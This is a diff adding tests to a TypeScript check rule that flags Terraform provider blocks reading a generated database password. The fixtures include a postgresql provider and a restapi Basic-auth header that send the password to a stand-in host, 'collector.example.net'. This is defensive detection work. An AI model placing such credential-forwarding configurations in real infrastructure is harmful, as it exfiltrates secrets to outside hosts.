@@ -1,9 +1,11 @@
+import { providerConfigurations } from '../../../lib/checks/provider-facts';
+import { Verdict } from '../../../lib/checks/rule';
 import { rule } from '../../../lib/checks/rules/PG-IAM-4';
-import { TerraformBlock } from '../../../lib/checks/stack-model';
+import { buildStackModel, TerraformBlock } from '../../../lib/checks/stack-model';
 import { CONSTRUCT, madeAt, verdictsBeside } from '../beside-fixtures';
 import { compliantFlexibleServer, FLEXIBLE, Resources } from '../rule-harness';
 
-// A4-4: the passwords a construct generates are read only by the resources it made.
+// A4-4 and A5-9: the passwords a construct generates are read only by the resources it made, and by no provider block.
 
 const OTHER_VAULT = '/subscriptions/99999999-0000-0000-0000-000000000000/resourceGroups/rg-x/providers/Microsoft.KeyVault/vaults/kv-elsewhere';
 const GENERATOR = 'random_password.admin';
@@ -42,4 +44,41 @@ test('fails any resource beside the construct that reads the result or the bcryp
     // Depending on the generator, or reading its length, copies nothing.
     null_resource: { after: beside({ depends_on: [GENERATOR], triggers: { n: `\${${GENERATOR}.length}` } }) },
   }), [CONSTRUCT])).toEqual([copy('azurerm_key_vault_secret.copy'), copy('azurerm_linux_web_app.app'), copy('local_file.f')]);
+});
+
+describe('a provider block that reads the password (A5-9)', () => {
+  /** The rule's verdicts on a stack with provider blocks (and locals), as evaluateStack gives them. */
+  function verdictsWith(providers: { [type: string]: unknown }, extra: Resources = {}, locals: TerraformBlock = {}): readonly Verdict[] {
+    const terraform = { resource: stack(extra), provider: providers, locals };
+    const model = buildStackModel(terraform);
+    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
+    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, constructs: [CONSTRUCT], providers: providerConfigurations(terraform) });
+    return Array.isArray(result) ? result : [result as Verdict];
+  }
+  const sent = (key: string, user?: string) => ({
+    status: 'fail',
+    message: `provider ${key} reads ${GENERATOR}, a password ${CONSTRUCT} generates, and sends it to whatever it signs in to${user === undefined ? '' : ` for ${user}`}; no rule of the pack judges where.`,
+    address: user,
+  });
+  const role = { postgresql_role: { reader: { ...madeAt('stack/Reader'), name: 'reader', provider: 'postgresql.elsewhere' } } };
+
+  test('fails a postgresql provider to another host signed in with it, shown on the first resource that uses it', () => {
+    expect(verdictsWith({ postgresql: [{ alias: 'elsewhere', host: 'collector.example.net', username: 'pgadmin', password: `\${${GENERATOR}.result}` }] }, role))
+      .toEqual([sent('postgresql.elsewhere', 'postgresql_role.reader')]);
+  });
+
+  test('fails a default provider of any type through a local, and one no resource uses', () => {
+    expect(verdictsWith({
+      restapi: [{ uri: 'https://collector.example.net', headers: { Authorization: '${local.basic}' } }],
+      postgresql: [{ alias: 'unused', host: 'h', password: `\${${GENERATOR}.bcrypt_hash}` }],
+    }, { restapi_object: { push: { ...madeAt('stack/Push'), path: '/x', data: '{}' } } }, { basic: `Basic \${base64encode(${GENERATOR}.result)}` }))
+      .toEqual([sent('restapi', 'restapi_object.push'), sent('postgresql.unused')]);
+  });
+
+  test('passes providers that sign in with an Entra token or read other secrets', () => {
+    expect(verdictsWith({
+      postgresql: [{ alias: 'entra', host: 'orders-db.postgres.database.azure.com', username: 'pg-admins', azure_identity_auth: true }],
+      restapi: [{ uri: 'https://collector.example.net', headers: { Authorization: '${var.token}' } }],
+    })).toEqual([{ status: 'pass' }]);
+  });
 });
